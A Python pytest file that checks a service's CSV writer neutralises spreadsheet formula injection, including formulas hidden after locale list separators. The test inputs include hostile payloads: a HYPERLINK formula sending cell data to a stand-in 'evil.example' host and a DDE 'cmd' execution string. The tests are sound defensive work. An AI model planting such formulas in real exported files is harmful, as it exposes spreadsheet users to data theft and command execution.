"""Every CSV the service writes is safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest

from core import csv_safety


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "'=HYPERLINK("),
        ("+34 600 000 000", "'+34 600"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3"),
        ("@SUM(1+1)", "'@SUM"),
        ("\r=1+1", "'\r=1+1"),
        ("Garcia", "Garcia"),
        ("O'Neill", "O'Neill"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_text_a_spreadsheet_would_run_is_written_as_text(
    cell: str, written: str
) -> None:
    out = io.StringIO()
    csv_safety.writer(out).writerow(["H-1", cell])

    row = next(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert row[0] == "H-1"
    assert row[1].startswith(written)
    assert row[1] in (cell, "'" + cell)


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        # Spanish Excel splits a comma-separated file on `;`: each piece after
        # a separator is a cell of its own, and must not start a formula.
        ("Z;=1+1;", "Z;'=1+1;"),
        ("Z; =1+1", "Z; '=1+1"),
        ("a,+34 600", "a,'+34 600"),
        ("a\t@SUM(1)", "a\t'@SUM(1)"),
        ("a;-2+3;b;@x", "a;'-2+3;b;'@x"),
        ("a;\t=1", "a;'\t'=1"),
        ("\t=1+1", "'\t'=1+1"),
        ("=1;=2", "'=1;'=2"),
        ("Garcia;Lopez", "Garcia;Lopez"),
        ("a=b;c", "a=b;c"),
    ],
)
def test_a_formula_after_a_list_separator_is_written_as_text(
    cell: str, written: str
) -> None:
    out = io.StringIO()
    csv_safety.writer(out).writerow(["H-1", cell])

    row = next(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert row == ["H-1", written]
    # Read the way a semicolon locale reads it: no piece starts a formula.
    pieces = re.split(r"[;,\t]", out.getvalue().strip("\r\n"))
    assert not [p for p in pieces if p.lstrip(' "').startswith(("=", "+", "-", "@"))]


def test_numbers_and_dates_are_written_as_they_are() -> None:
    out = io.StringIO()
    csv_safety.writer(out).writerows([[-5, -1.5, dt.date(2026, 11, 25), None]])

    assert out.getvalue() == "-5,-1.5,2026-11-25,\r\n"


def test_no_app_code_writes_csv_around_the_safe_writer() -> None:
    root = Path(__file__).resolve().parent.parent
    offenders = [
        str(path.relative_to(root))
        for app in ("clinic", "config", "followup", "feeds", "web")
        for path in (root / app).rglob("*.py")
        if path.name != "csv_safety.py"
        and re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
    ]

    assert offenders == [], "write CSV through core.csv_safety.writer"
